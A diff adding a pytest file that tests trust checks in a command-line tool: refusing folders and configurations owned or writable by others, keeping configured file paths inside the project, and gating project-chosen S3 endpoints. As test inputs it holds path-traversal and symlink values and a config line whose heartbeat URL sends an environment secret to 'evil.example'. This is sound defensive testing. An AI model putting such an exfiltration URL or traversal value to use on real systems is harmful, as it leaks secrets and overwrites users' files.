@@ -1,0 +1,172 @@
+"""A folder of somebody else is not obeyed, and the user's own needs no trust."""
+
+import json
+import os
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from backends import trust
+from tests.cases.support import Desk
+
+NOBODY = 65534
+as_root = pytest.mark.skipif(getattr(os, "geteuid", lambda: 1)() != 0, reason="only root can give files away")
+
+
+@pytest.fixture
+def desk(tmp_path: Path) -> Desk:
+    """The user's own folder, with a store of one version."""
+    desk = Desk(tmp_path / "desk")
+    desk.write({"a": {"x": 1}})
+    desk.ok("init", "kb.json")
+    return desk
+
+
+def give_away(desk: Desk) -> None:
+    """Make the folder and all in it somebody else's."""
+    for path in (desk.folder, *desk.folder.rglob("*")):
+        os.chown(path, NOBODY, -1)
+
+
+def open_parent(desk: Desk) -> None:
+    """Let everybody write the folder above."""
+    desk.folder.parent.chmod(0o777)
+
+
+def open_config(desk: Desk) -> None:
+    """Let everybody write the configuration."""
+    (desk.folder / ".kbstore" / "config.json").chmod(0o666)
+
+
+FOREIGN = [pytest.param(give_away, marks=as_root), open_parent, open_config]
+
+
+@pytest.mark.parametrize("how", FOREIGN)
+def test_a_project_of_somebody_else_is_refused_until_it_is_trusted(desk: Desk, how: Callable[[Desk], None]) -> None:
+    """The error names the folder and one command; that command, or the variable, makes it work."""
+    how(desk)
+    for command in (["log"], ["checkout", "v1", "--force"], ["--file", "kb.json", "status"], ["--store", ".", "log"]):
+        ended = desk.run(*command)
+        assert ended.code == 3
+        assert f"kbstore trust {desk.folder}" in ended.err
+    assert desk.run("log", env={"KBSTORE_TRUST": f"/nowhere{os.pathsep}{desk.folder}"}).code == 0
+    desk.ok("trust", str(desk.folder))
+    assert desk.ok("trust").lines == [str(desk.folder)]
+    desk.ok("log")
+    desk.ok("trust", "--remove", str(desk.folder))
+    assert desk.run("log").code == 3
+
+
+def test_the_users_own_folder_below_a_sticky_one_needs_no_trust(desk: Desk) -> None:
+    """As in /tmp, where everybody may write and nobody can move what is another's."""
+    desk.folder.parent.chmod(0o1777)
+    desk.ok("log")
+
+
+def test_a_store_that_is_named_is_not_asked_about(desk: Desk, tmp_path: Path) -> None:
+    """Whoever names the file of a store has made up their mind."""
+    open_config(desk)
+    elsewhere = Desk(tmp_path / "elsewhere")
+    elsewhere.ok("--store", str(desk.folder / ".kbstore" / "kb.db"), "log")
+
+
+@pytest.mark.parametrize("file", ["../victim.json", "/tmp/victim.json", "a/../../victim.json", ".", "link.json"])
+def test_the_file_stays_in_its_folder(desk: Desk, file: str) -> None:
+    """A project that came from elsewhere writes nothing beside itself, by name or by link."""
+    victim = desk.folder.parent / "victim.json"
+    victim.write_text("mine")
+    (desk.folder / "link.json").symlink_to(victim)
+    config = desk.folder / ".kbstore" / "config.json"
+    config.write_text(json.dumps({**json.loads(config.read_text()), "file": file}))
+    assert desk.run("checkout", "v1", "--force").code == 3
+    assert victim.read_text() == "mine"
+
+
+@pytest.mark.parametrize("option", ["endpoint=https://192.0.2.1", "profile=work", "cache=/srv/x"])
+def test_a_projects_url_that_chooses_a_server_is_trusted_once(desk: Desk, option: str) -> None:
+    """A folder of one's own may still be a copy of somebody's: no credentials go to its server before a word."""
+    url = f"s3://bucket/kb?{option}&connect_timeout=0.05&timeout=0.1"
+    config = desk.folder / ".kbstore" / "config.json"
+    config.write_text(json.dumps({**json.loads(config.read_text()), "store": url}))
+    ended = desk.run("log")
+    assert ended.code == 3
+    assert "kbstore trust s3:" in ended.err.replace("'", "")
+    desk.ok("trust", url)
+    assert "trust" not in desk.run("log", env={"AWS_ACCESS_KEY_ID": "x", "AWS_SECRET_ACCESS_KEY": "x"}).err
+
+
+def health(desk: Desk, *arguments: str, **env: str) -> subprocess.CompletedProcess[str]:
+    """Run health in the folder."""
+    home = desk.folder.parent / "home"
+    return subprocess.run(
+        [sys.executable, "-c", "from health.cli import main; main()", *arguments],
+        cwd=desk.folder,
+        env=os.environ | {"PYTHONPATH": str(Path(trust.__file__).parent.parent), "HOME": str(home)} | env,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+
+
+@pytest.mark.parametrize("how", FOREIGN)
+def test_health_runs_nothing_of_somebody_elses_configuration(desk: Desk, how: Callable[[Desk], None]) -> None:
+    """Neither its commands nor its plug-ins, nor is a variable sent; a project of somebody else is refused as well."""
+    assert health(desk, "list").returncode == 0
+    how(desk)
+    ended = health(desk, "list")
+    assert ended.returncode == 3
+    assert f"kbstore trust {desk.folder}" in ended.stderr
+    assert health(desk, "list", KBSTORE_TRUST=str(desk.folder)).returncode == 0
+
+
+def test_a_configuration_that_was_found_uses_no_variable_that_nobody_gave_it(desk: Desk) -> None:
+    """A cloned folder is the user's own; still it may not send away any secret of the environment."""
+    (desk.folder / "health.toml").write_text("[watch]\nheartbeat_url = 'http://evil.example/${MY_SECRET}'\n")
+    ended = health(desk, "list", MY_SECRET="s3cret")
+    assert ended.returncode == 3
+    assert "MY_SECRET" in ended.stderr
+    assert "s3cret" not in ended.stderr
+    assert health(desk, "--config", "health.toml", "list", MY_SECRET="s3cret").returncode == 0
+    assert health(desk, "list", MY_SECRET="s3cret", KBSTORE_TRUST=str(desk.folder)).returncode == 0
+    (desk.folder / "health.toml").write_text("[serve]\ntoken = '${HEALTH_TOKEN}'\n")
+    assert health(desk, "list", HEALTH_TOKEN="s3cret").returncode == 0
+
+
+def test_migrations_of_somebody_else_do_not_run_unless_they_are_named(tmp_path: Path) -> None:
+    """The folder that nobody named is looked at; one that was is not."""
+    desk = Desk(tmp_path / "desk")
+    (desk.folder / "migrations").mkdir()
+    (desk.folder / "migrations" / "001_a.sql").write_text("CREATE TABLE t(a int);\n")
+    (desk.folder / "migrations").chmod(0o777)
+
+    def migrator(*arguments: str) -> subprocess.CompletedProcess[str]:
+        call = [sys.executable, "-c", "from migrator.cli import main; main()", *arguments]
+        env = os.environ | {"PYTHONPATH": str(Path(trust.__file__).parent.parent), "HOME": str(tmp_path)}
+        return subprocess.run(call, cwd=desk.folder, env=env, capture_output=True, text=True, check=False)
+
+    ended = migrator("up")
+    assert ended.returncode == 1
+    assert "kbstore trust" in ended.stderr
+    assert not (desk.folder / "migrator.db").exists()
+    assert migrator("--dir", "migrations", "up").returncode == 0
+
+
+def test_what_is_trusted_is_the_users_own_word(tmp_path: Path) -> None:
+    """The file is private, holds odd names, and is not believed if everybody may write it."""
+    environ = {"XDG_CONFIG_HOME": str(tmp_path / "config")}
+    odd = tmp_path / 'a "b" \\ ü😀'
+    odd.mkdir()
+    trust.change(environ, str(odd))
+    trust.change(environ, "s3://b/p?endpoint=https://x")
+    file = tmp_path / "config" / "kbstore" / "trust.toml"
+    assert file.stat().st_mode & 0o777 == 0o600
+    known = trust.load(environ)
+    assert known.covers(odd / "deep" / "health.toml")
+    assert not known.covers(tmp_path / "a")
+    assert known.urls == {"s3://b/p?endpoint=https://x"}
+    file.chmod(0o666)
+    with pytest.raises(trust.Untrusted, match="everybody may write it"):
+        trust.load(environ)
